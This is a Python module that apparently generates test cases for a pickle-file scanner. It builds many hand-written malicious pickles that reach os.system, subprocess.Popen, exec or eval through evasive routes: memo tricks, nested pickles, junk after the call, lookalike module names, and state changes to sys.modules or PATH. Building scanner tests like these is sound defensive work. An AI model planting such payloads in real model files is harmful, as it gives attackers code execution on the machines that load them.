"""Pickles that reach a call by odd ways through the machine: memo, stack, text forms, ruins after the call."""

import pickle
import struct

from tools.attacks.opcodes import INERT, blob, call, classic, stacked, system, text, whole

EVAL = "1"


def cases() -> dict[str, dict[str, bytes]]:
    made = {**_old_forms(), **_memo(), **_operands(), **_ends(), **_nested(), **_state(), **_names()}
    return {f"pkl/{name}": {"model.pkl": content} for name, content in made.items()} | _suspicious()


def _old_forms() -> dict[str, bytes]:
    return {
        "protocol 0 by hand": b"cposix\nsystem\n(S'true'\ntR.",
        "protocol 0 with double quotes": b'cposix\nsystem\n(S"true"\ntR.',
        "protocol 0 escapes": b"cposix\nsystem\n(S'\\x74rue'\ntR.",
        "protocol 1 by hand": b"cposix\nsystem\n(U\x04truetR.",
        "inst": b"(S'true'\niposix\nsystem\n.",
        "inst exec of python 2": b"(S'pass'\ni__builtin__\nexec\n.",
        "obj": b"(cposix\nsystem\nS'true'\no.",
        "obj without arguments": b"(cposix\nabort\no.",
        "newobj": whole(stacked("subprocess", "Popen") + text(INERT) + b"\x85\x81"),
        "newobj ex": whole(stacked("subprocess", "Popen") + text(INERT) + b"\x85}" + text("shell") + b"\x88s\x92"),
        "reduce with an empty tuple": whole(stacked("posix", "abort") + b")R"),
        "crlf in a global": b"cposix\r\nsystem\r\n(S'true'\r\ntR.",
        "int with a hexadecimal prefix": b"I0x10\n0cposix\nsystem\n(S'true'\ntR.",
        "int with spaces and underscores": b"I 1_0 \n0cposix\nsystem\n(S'true'\ntR.",
        "long with an octal prefix": b"L0o17L\n0cposix\nsystem\n(S'true'\ntR.",
        "int that is a boolean": b"I01\n0cposix\nsystem\n(S'true'\ntR.",
        "float infinity": b"Finf\n0cposix\nsystem\n(S'true'\ntR.",
        "float with underscores": b"F1_0.5\n0cposix\nsystem\n(S'true'\ntR.",
        "unicode raw escapes": b"V\\u0070osix\nVsystem\n\x93(Vtrue\ntR.",
        "persistent id then a call": b"Pposix\n0cposix\nsystem\n(S'true'\ntR.",
        "a global of latin text": b"cos\nsystem\n(V\xe9\ntR.",
        "protocol byte in the middle": b"cposix\n\x73ystem\n\x80\x02(\x80\x04S'true'\ntR.",
        "protocol of zero": b"\x80\x00cposix\nsystem\n(S'true'\ntR.",
        "two protocol opcodes": b"\x80\x02\x80\x05cposix\nsystem\n(S'true'\ntR.",
        "leading none and pop": b"N0N0N0N0cposix\nsystem\n(S'true'\ntR.",
        "a frame across the call": b"\x80\x04\x95\x04\x00\x00\x00\x00\x00\x00\x00" + system()[2:],
        "a frame longer than the file": b"\x80\x04\x95\xff\xff\x00\x00\x00\x00\x00\x00" + system()[2:],
        "an empty frame": b"\x80\x04\x95" + bytes(8) + system()[2:],
    }


def _memo() -> dict[str, bytes]:
    return {
        "memo overwritten": whole(
            text("collections")
            + b"q\x000"
            + text("posix")
            + b"q\x000h\x00"
            + text("system")
            + b"\x93"
            + text(INERT)
            + b"\x85R"
        ),
        "memo by a text put": whole(
            text("posix") + b"p77\n0" + text("system") + b"p78\n0g77\ng78\n\x93" + text(INERT) + b"\x85R"
        ),
        "memo by a long put": whole(
            text("posix")
            + b"r\xff\xff\x00\x000"
            + text("system")
            + b"\x940j\xff\xff\x00\x00h\x01\x93"
            + text(INERT)
            + b"\x85R"
        ),
        "memoize after a gap": whole(
            text("posix")
            + b"q\x05"
            + b"0"
            + text("x")
            + b"\x940h\x05"
            + text("system")
            + b"\x93"
            + text(INERT)
            + b"\x85R"
        ),
        "a global kept in the memo": whole(stacked("posix", "system") + b"\x940h\x00" + text(INERT) + b"\x85R"),
        "the tuple kept in the memo": whole(text(INERT) + b"\x85\x940" + stacked("posix", "system") + b"h\x00R"),
        "duplicated operands": whole(text("posix") + b"20" + text("system") + b"20\x93" + text(INERT) + b"\x85R"),
        "decoys between the names": whole(
            text("posix") + text("os.path") + b"0" + text("system") + text("join") + b"0\x93" + text(INERT) + b"\x85R"
        ),
        "pop mark drops decoys": whole(
            text("posix") + b"(" + text("a") + text("b") + b"1" + text("system") + b"\x93" + text(INERT) + b"\x85R"
        ),
        "the result is popped": whole(call(stacked("posix", "system"), text(INERT)) + b"0}"),
        "names as eight byte strings": whole(
            b"\x8d"
            + struct.pack("<Q", 5)
            + b"posix"
            + b"\x8d"
            + struct.pack("<Q", 6)
            + b"system\x93"
            + text(INERT)
            + b"\x85R"
        ),
        "a name built by a call": whole(
            call(stacked("codecs", "decode"), text("cbfvk"), text("rot13"))
            + text("system")
            + b"\x93"
            + text(INERT)
            + b"\x85R"
        ),
        "extension registry": b"\x80\x02\x82\x01(X\x04\x00\x00\x00truetR.",
        "extension registered first": whole(
            call(stacked("copyreg", "add_extension"), text("posix"), text("system"), b"K\x07")
            + b"0\x82\x07"
            + text(INERT)
            + b"\x85R"
        ),
    }


def _operands() -> dict[str, bytes]:
    shell = stacked("posix", "system")
    return {
        "partial of system": whole(call(call(stacked("functools", "partial"), shell, text(INERT)))),
        "getattr of a module": whole(
            call(
                call(
                    stacked("builtins", "getattr"), call(stacked("builtins", "__import__"), text("os")), text("system")
                ),
                text(INERT),
            )
        ),
        "map over system": whole(
            call(stacked("builtins", "list"), call(stacked("builtins", "map"), shell, b"]" + text(INERT) + b"a"))
        ),
        "itemgetter of modules": whole(
            call(call(stacked("operator", "itemgetter"), text("os")), stacked("sys", "modules"))
        ),
        "attrgetter system": whole(
            call(call(stacked("operator", "attrgetter"), text("system")), classic("os", "path"))
        ),
        "default factory is system": whole(call(stacked("collections", "defaultdict"), shell)),
        "filter over exec": whole(
            call(
                stacked("builtins", "tuple"),
                call(stacked("builtins", "filter"), stacked("builtins", "exec"), text("1") + b"\x85"),
            )
        ),
        "reduce over eval": whole(
            call(stacked("functools", "reduce"), stacked("builtins", "eval"), text("1") + b"\x85")
        ),
        "copyreg reconstructor": whole(
            call(
                stacked("copyreg", "_reconstructor"),
                stacked("subprocess", "Popen"),
                stacked("builtins", "object"),
                b"N",
            )
        ),
        "newobj helper": whole(call(stacked("copyreg", "__newobj__"), stacked("subprocess", "Popen"), text(INERT))),
        "property of a type": whole(
            call(stacked("builtins", "type"), text("X"), b")", b"}" + text("__reduce__") + shell + b"s")
        ),
        "class built with a hook": whole(
            call(call(stacked("builtins", "type"), text("X"), b")", b"}" + text("__setstate__") + shell + b"s"))
            + text(INERT)
            + b"b"
        ),
        "sorted by system": whole(
            call(stacked("builtins", "max"), b"]" + text(INERT) + b"a") + b"0" + stacked("os", "system") + b"0N"
        ),
        "only imports a shell": whole(stacked("posix", "system")),
        "a shell in a list": whole(b"]" + stacked("os", "system") + b"a"),
        "import of an unknown module": whole(stacked("my_evil_package.payload", "run") + b")R"),
    }


def _ends() -> dict[str, bytes]:
    body = call(stacked("posix", "system"), text(INERT))
    return {
        "no stop": b"\x80\x04" + body,
        "an unknown opcode after the call": b"\x80\x04" + body + b"\xff\xfe\xfd",
        "stack underflow after the call": b"\x80\x04" + body + b"0000.",
        "a string past the end after the call": b"\x80\x04" + body + b"X\xff\xff\xff\x7f",
        "invalid utf-8 after the call": b"\x80\x04" + body + b"\x8c\x02\xff\xfe.",
        "bad int after the call": b"\x80\x04" + body + b"Inot a number\n.",
        "unset memo after the call": b"\x80\x04" + body + b"h\x63.",
        "unsupported protocol after the call": b"\x80\x04" + body + b"\x80\x63.",
        "build on nothing after the call": b"\x80\x04" + body + b"Nb.",
        "second stream": pickle.dumps({"a": 1}) + system(),
        "third stream after an empty one": pickle.dumps(1) + b"N." + system(protocol=2),
        "after a thousand honest streams": pickle.dumps([1]) * 1000 + system(),
        "after padding with newlines": pickle.dumps({"a": 1}) + b"\n" * 64 + system(),
        "after padding with zeros": pickle.dumps({"a": 1}) + bytes(4096) + system(),
        "after a megabyte of data": pickle.dumps(bytes(1 << 20)) + system(),
        "behind a megabyte of data": whole(blob(bytes(1 << 20)) + b"0" + body),
        "behind many small things": whole(b"(" + b"K\x01" * 300_000 + b"t0" + body),
        "names at the end of much": whole(b"(" + text("posix") * 50_000 + b"t0" + body),
    }


def _nested() -> dict[str, bytes]:
    inner = system()
    return {
        "pickle in pickle": whole(call(stacked("pickle", "loads"), blob(inner))),
        "pickle in pickle by c": whole(call(stacked("_pickle", "loads"), blob(inner))),
        "load from bytes of torch": whole(call(stacked("torch.storage", "_load_from_bytes"), blob(inner))),
        "pickle in pickle in pickle": whole(
            call(stacked("pickle", "loads"), blob(whole(call(stacked("pickle", "loads"), blob(inner)))))
        ),
        "joblib wrapper of a hostile array": whole(
            stacked("joblib.numpy_pickle", "NDArrayWrapper")
            + b")\x81}"
            + text("filename")
            + text("../../etc/x.npy")
            + b"sb"
        ),
        "numpy object array": whole(
            call(
                stacked("numpy._core.multiarray", "scalar"),
                call(stacked("numpy", "dtype"), text("O8"), b"\x89", b"\x88"),
                blob(inner),
            )
        ),
        "sklearn then a shell": whole(
            call(stacked("sklearn.linear_model._base", "LinearRegression")) + b"0" + inner[2:-1]
        ),
        "persistent tuple with a shell": whole(call(stacked("os", "system"), text(INERT)) + b"Q"),
    }


def _state() -> dict[str, bytes]:
    return {
        "build puts a shell on a class": whole(
            stacked("collections", "OrderedDict") + b"N}" + text("__reduce__") + stacked("os", "system") + b"s\x86b"
        ),
        "build changes a module": whole(stacked("sys", "modules") + b"N}" + text("x") + b"K\x01s\x86b"),
        "build changes a function": b"cnumpy\nprod\nN(Va\nVos\nd\x86bN(Vb\nVsystem\nd\x86b0cnumpy\nprod.a\ncnumpy\nprod.b\n\x93(Vtrue\ntR.",  # noqa: E501
        "set item on a module": whole(stacked("os", "environ") + text("PATH") + text("/tmp") + b"s"),
        "append on an imported list": whole(stacked("sys", "path") + text("/tmp/x") + b"a"),
        "append calls an extend": whole(stacked("collections", "deque") + stacked("posix", "system") + b"a"),
        "state of a thread": whole(
            call(stacked("threading", "Thread")) + b"}" + text("_target") + stacked("os", "system") + b"sb"
        ),
        "sys modules override": b"csys\nmodules\np0\n0g0\nVsys\nVos\ncsys\nmodules\ns0csys\nsystem\n(Vtrue\ntR.",
        "set state of a popen": whole(stacked("subprocess", "Popen") + b")\x81}" + text("args") + text(INERT) + b"sb"),
    }


def _names() -> dict[str, bytes]:
    made = {}
    for module, name in (
        ("os", "sys.modules"),
        ("os ", "system"),
        ("OS", "system"),
        ("ｏｓ", "system"),
        ("оs", "system"),
        ("os\x00", "system"),
        ("torch._utils", "_rebuild_tensor_v2\x00"),
        ("builtins", "ｅｖａｌ"),
        ("__main__", "Model"),
        ("", "system"),
        ("posix", ""),
        ("posixpath", "os.system"),
        ("builtins", "__dict__"),
        ("torch..os", "system"),
        ("torch.os", "system"),
        ("torch.nn.os", "system"),
        ("numpy.os", "system"),
        ("__mp_main__", "x"),
        ("site", "os.system"),
        ("collections.abc", "sys.modules"),
        ("torch.nn", "Linear.__init__.__globals__"),
    ):
        made[f"name {module!r} {name!r}"] = whole(call(stacked(module, name), text(INERT)))
    return made


def _suspicious() -> dict[str, dict[str, bytes]]:
    unknown = {
        "unknown class": whole(stacked("acme.models", "Net") + b")\x81}" + text("a") + b"K\x01sb"),
        "unknown function": whole(call(stacked("acme.models", "build"), text("x"))),
        "class of main": whole(stacked("__main__", "Net") + b")\x81"),
        "persistent id alone": b"Pabc\n.",
        "binary persistent id": whole(text("abc") + b"Q"),
        "extension one": b"\x80\x02\x82\x09.",
        "class of notebook": whole(stacked("ipykernel.acme", "Net") + b")\x81"),
    }
    return {f"suspicious/{name}": {"model.pkl": content} for name, content in unknown.items()}
